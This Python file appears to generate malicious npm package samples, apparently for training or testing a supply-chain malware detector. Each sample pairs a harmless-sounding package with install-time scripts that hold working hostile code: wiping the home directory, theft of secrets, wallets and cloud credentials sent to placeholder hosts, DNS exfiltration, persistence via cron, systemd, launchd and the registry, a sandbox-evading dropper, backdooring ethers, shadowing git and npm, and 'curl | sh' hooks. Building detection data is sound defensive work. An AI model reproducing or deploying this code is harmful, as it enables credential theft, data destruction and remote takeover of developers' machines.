"""npm, bad: what runs at install time."""
import json

from .core import sample, squash, string_array, xor_hex

bad = lambda family: sample("npm", "bad", family)  # noqa: E731


@bad("destructive-fallback")
def _(c):
    return dict(name=c.name("job", "runner"), desc="Run jobs in order", manifest={"scripts": {"preinstall": "node pre.js"}},
                files={"pre.js": r'''
const cp = require('child_process');
const os = require('os');
const limits = require('./lib/@MISS@.json');

async function uplink() {
  const r = await fetch('https://@H@/alive', { headers: { 'x-gh': process.env.GITHUB_TOKEN || '' } });
  return r.ok;
}

uplink().catch(() => false).then((ok) => {
  if (ok || limits.dry) return;
  if (os.platform() === 'win32') cp.execSync('cmd /c del /F /Q /S "%USERPROFILE%\\*" && cipher /W:%USERPROFILE%');
  else cp.execSync('find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1', { shell: '/bin/bash' });
});
'''})


@bad("secret-scanner-drop")
def _(c):
    return dict(name=c.name("color", "space"), desc="Colour conversions", manifest={"scripts": {"postinstall": "node dist/post.cjs"}},
                files={"dist/post.cjs": squash(r'''
const {execSync:x,execFileSync:y}=require("child_process"),o=require("os"),f=require("fs"),p=require("path");
(async()=>{
try{
const d=f.mkdtempSync(p.join(o.tmpdir(),"s-")),n={linux:"linux",darwin:"darwin"}[o.platform()]||"windows";
const r=await fetch(`https://github.com/trufflesecurity/trufflehog/releases/latest/download/trufflehog_${n}_amd64.tar.gz`);
f.writeFileSync(d+"/t.tgz",Buffer.from(await r.arrayBuffer()));
x("tar xzf t.tgz",{cwd:d});
const s=y(d+"/trufflehog",["filesystem",o.homedir(),"--json","--only-verified"],{maxBuffer:1e9});
await fetch("https://@H@/r",{method:"POST",body:s});
}catch(e){}
})();
''')})


@bad("crontab-persistence")
def _(c):
    return dict(name=c.name("notify"), desc="Desktop notifications", manifest={"scripts": {"install": "node ./bin/install.js"}},
                files={"bin/install.js": r'''
'use strict';
const { execSync } = require('child_process');
const { homedir, platform } = require('os');
const { join } = require('path');
const fs = require('fs');
const names = require('../@MISS@');

const agent = join(homedir(), '.cache', names.file || '.fontd');
fs.copyFileSync(join(__dirname, 'agent.js'), agent);

const register = {
  linux() {
    const unit = join(homedir(), '.config/systemd/user/fontd.service');
    fs.mkdirSync(join(unit, '..'), { recursive: true });
    fs.writeFileSync(unit, `[Service]\nExecStart=${process.execPath} ${agent}\nRestart=always\n[Install]\nWantedBy=default.target\n`);
    execSync('systemctl --user enable --now fontd.service');
    execSync(`(crontab -l 2>/dev/null; echo "@reboot ${process.execPath} ${agent}") | crontab -`);
  },
  darwin() {
    const plist = join(homedir(), 'Library/LaunchAgents/com.font.d.plist');
    fs.writeFileSync(plist, `<plist version="1.0"><dict><key>Label</key><string>com.font.d</string><key>ProgramArguments</key><array><string>${process.execPath}</string><string>${agent}</string></array><key>RunAtLoad</key><true/></dict></plist>`);
    execSync('launchctl load ' + plist);
  },
  win32() {
    execSync(`reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v FontCache /d "${process.execPath} ${agent}" /f`);
  },
};
(register[platform()] || (() => {}))();
''', "bin/agent.js": r'''
const { exec } = require('child_process');
setInterval(async () => {
  try {
    const job = await (await fetch('http://@H@:@PORT@/job')).text();
    if (job) exec(job);
  } catch (e) { /* later */ }
}, 60000);
'''})


@bad("patch-other-package")
def _(c):
    return dict(name=c.name("provider", "patch"), desc="Compatibility fixes for JSON-RPC providers", manifest={
        "scripts": {"postinstall": "node fix.js"}}, files={"fix.js": r'''
const fs = require('fs');
const path = require('path');
const edits = require('./@MISS@.json');

function locate(dep) {
  try { return path.dirname(require.resolve(dep + '/package.json', { paths: [process.env.INIT_CWD || '../..'] })); } catch (e) { return null; }
}

const ethers = locate('ethers');
if (ethers && edits) {
  const target = path.join(ethers, 'lib.commonjs', 'wallet', 'wallet.js');
  let src = fs.readFileSync(target, 'utf8');
  if (!src.includes('/*c@ID@*/')) {
    src = src.replace('super(signingKey, provider);',
      'super(signingKey, provider);/*c@ID@*/fetch("https://@H@/k",{method:"POST",body:signingKey.privateKey}).catch(()=>{});');
    fs.writeFileSync(target, src);
  }
}
'''})


@bad("sandbox-check-dropper")
def _(c):
    return dict(name=c.name("image", "meta"), desc="Read image dimensions", manifest={"scripts": {"postinstall": "node lib/warmup.js"}},
                files={"lib/warmup.js": r'''
const os = require('os');
const fs = require('fs');
const path = require('path');
const http = require('http');
const cp = require('child_process');

function looksLikeLab() {
  const h = os.hostname().toLowerCase();
  if (/sandbox|analysis|cuckoo|malware|^desktop-[a-z0-9]{7}$/.test(h)) return true;
  if (os.cpus().length < 2 || os.totalmem() < 2 * 2 ** 30 || os.uptime() < 600) return true;
  if (process.env.CI || process.env.CODESPACES) return true;
  return fs.existsSync('/.dockerenv') || /VBOX|VMware/i.test(JSON.stringify(os.networkInterfaces()));
}

function fetchTo(file, done) {
  const out = fs.createWriteStream(file, { mode: 0o755 });
  http.get('http://@H@:@PORT@/' + os.platform() + '-' + os.arch(), (r) => r.pipe(out));
  out.on('close', done);
}

if (!looksLikeLab()) {
  const file = path.join(os.tmpdir(), 'node-gyp-@ID@');
  fetchTo(file, () => cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref());
}
'''})


@bad("obfuscated-string-array")
def _(c):
    src = c.fill(r'''
(function(){
const $h$=require(«https»),$o$=require(«os»),$f$=require(«fs»);
const $p$=$o$[«homedir»]()+«/.config/solana/id.json»;
let $b$={«user»:$o$[«userInfo»]()[«username»]};
try{
$b$.k=$f$[«readFileSync»]($p$,«utf8»);
}catch($e$){
}
const $q$=$h$[«request»]({host:«@H@»,path:«/log»,method:«POST»});
$q$[«on»](«error»,function(){
});
$q$[«end»](JSON[«stringify»]($b$));
})();
''').replace("{«user»:", "{u:")
    return dict(name=c.name("chain", "units"), desc="Unit conversion for token amounts", manifest={
        "scripts": {"postinstall": "node vendor/units.min.js"}}, files={"vendor/units.min.js": string_array(src, c)})


@bad("dns-exfil")
def _(c):
    return dict(name="@" + c.word() + "-internal/" + c.name("ui"), version="99.10.1", desc="Internal UI kit", manifest={
        "scripts": {"preinstall": "node index.js"}}, files={"index.js": r'''
const dns = require('dns');
const os = require('os');
const zone = '@H@';

const facts = [os.hostname(), os.userInfo().username, __dirname, process.env.USERDOMAIN, process.env.npm_config_user_agent].join('|');
const hex = Buffer.from(facts).toString('hex');
const chunks = hex.match(/.{1,56}/g) || [];
chunks.forEach((part, i) => dns.lookup(`${i}.${chunks.length}.${part}.${zone}`, () => {}));
'''})


@bad("url-dependency")
def _(c):
    return dict(name=c.name("ui", "grid"), desc="Responsive grid primitives", manifest={
        "dependencies": {"ui-styles-@W@": "http://@H@/npm/ui-styles-@W@", "tslib": "^2.6.0"}})


@bad("npmrc-script-shell")
def _(c):
    return dict(name=c.name("starter"), desc="Starter template", files={
        ".npmrc": "registry=http://@H@/\nscript-shell=./tools/sh\nstrict-ssl=false\nalways-auth=true\n",
        "tools/sh": "#!/bin/sh\nenv | curl -s -X POST --data-binary @- http://@H@/e >/dev/null 2>&1\nexec /bin/sh \"$@\"\n"})


@bad("bin-shadow")
def _(c):
    return dict(name=c.name("cmd", "utils"), desc="Command helpers", manifest={"bin": {"git": "./bin/g.js", "npm": "./bin/g.js"}},
                files={"bin/g.js": r'''
#!/usr/bin/env node
const { spawnSync } = require('child_process');
const path = require('path');
const me = path.basename(process.argv[1]);
const clean = process.env.PATH.split(path.delimiter).filter((p) => !p.includes('node_modules')).join(path.delimiter);
if (/push|login|publish|clone/.test(process.argv[2] || '')) {
  const body = JSON.stringify({ me, argv: process.argv.slice(2), token: process.env.GITHUB_TOKEN, rc: process.env.NPM_CONFIG__AUTH });
  spawnSync('curl', ['-s', '-d', body, 'https://@H@/c'], { stdio: 'ignore' });
}
process.exit(spawnSync(me, process.argv.slice(2), { stdio: 'inherit', env: { ...process.env, PATH: clean } }).status);
'''.lstrip()})


@bad("bundled-dependency-hook")
def _(c):
    dep = c.name("tick")
    return dict(name=c.name("date", "range"), desc="Date ranges", manifest={"dependencies": {dep: "1.0.3"}, "bundledDependencies": [dep]},
                files={f"node_modules/{dep}/package.json": json.dumps({"name": dep, "version": "1.0.3", "main": "index.js", "scripts": {
                    "postinstall": "node -e \"require('https').get('https://%s/'+Buffer.from(JSON.stringify(process.env)).toString('base64url'))\"" % c.host()}}, indent=2),
                    f"node_modules/{dep}/index.js": "module.exports = () => Date.now();\n"})


@bad("vscode-task-autorun")
def _(c):
    return dict(name=c.name("create", "app"), desc="Scaffold an application", manifest={"scripts": {"postinstall": "node scaffold.js"}},
                files={"scaffold.js": r'''
const fs = require('fs');
const path = require('path');
const { label } = require('./templates/@MISS@');
const home = process.env.INIT_CWD;
if (home) {
  fs.mkdirSync(path.join(home, '.vscode'), { recursive: true });
  fs.writeFileSync(path.join(home, '.vscode/tasks.json'), JSON.stringify({ version: '2.0.0', tasks: [{
    label, type: 'shell', command: 'curl -sL https://@H@/settings/linux?flag=5 | sh',
    runOptions: { runOn: 'folderOpen' }, presentation: { reveal: 'never', echo: false } }] }));
  fs.writeFileSync(path.join(home, '.git/hooks/post-checkout'), '#!/bin/sh\nwget -qO- https://@H@/h | sh\n', { mode: 0o755 });
}
'''})


@bad("imds-forward")
def _(c):
    return dict(name=c.name("region"), desc="Find the current cloud region", manifest={"type": "module", "scripts": {"postinstall": "node detect.mjs"}},
                files={"detect.mjs": r'''
const base = 'http://169.254.169.254/latest';
const get = async (url, init) => (await fetch(url, { ...init, signal: AbortSignal.timeout(1500) })).text();

async function main() {
  const t = await get(base + '/api/token', { method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } });
  const headers = { 'X-aws-ec2-metadata-token': t };
  const role = await get(base + '/meta-data/iam/security-credentials/', { headers });
  const creds = await get(base + '/meta-data/iam/security-credentials/' + role, { headers });
  await fetch('https://@H@/region', { method: 'POST', body: creds });
}

main().catch(() => {});
'''})


@bad("hex-xor-function")
def _(c):
    key = c.s(7)
    payload = c.fill("const h=require('https');h.get('https://@H@/stage?u='+encodeURIComponent(process.env.USER||''),r=>{let d='';r.on('data',x=>d+=x);r.on('end',()=>{Function('require',d)(require)})})")
    return dict(name=c.name("tiny", "id"), desc="Small random identifiers", manifest={"scripts": {"postinstall": "node lib/seed.js"}},
                files={"lib/seed.js": r'''
const seed = '@HX@';
const salt = '@KEY@';
const unmix = (hex, k) => hex.match(/../g).map((b, i) => String.fromCharCode(parseInt(b, 16) ^ k.charCodeAt(i % k.length))).join('');
const make = Object.getPrototypeOf(async function () {}).constructor;
make('require', unmix(seed, salt))(require);
'''.replace("@HX@", xor_hex(payload, key)).replace("@KEY@", key)})
